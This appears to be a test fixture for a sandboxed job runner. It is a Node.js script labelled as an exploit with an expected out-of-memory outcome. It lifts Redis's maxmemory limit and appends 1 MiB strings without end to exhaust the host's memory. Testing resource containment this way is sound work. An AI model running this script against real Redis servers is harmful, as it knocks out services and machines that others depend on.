// exploit: lifts the bound that its Redis has of its own and fills the machine's memory through it
// outcome: out-of-memory
// wall: 20000
// job: {"services":["redis"]}
const { createClient } = require('redis')

async function attack() {
  const client = await createClient({ url: process.env.REDIS_URL }).on('error', () => {}).connect()
  await client.configSet('maxmemory', '0')
  for (;;) await client.append('all', 'x'.repeat(1 << 20))
}
attack()
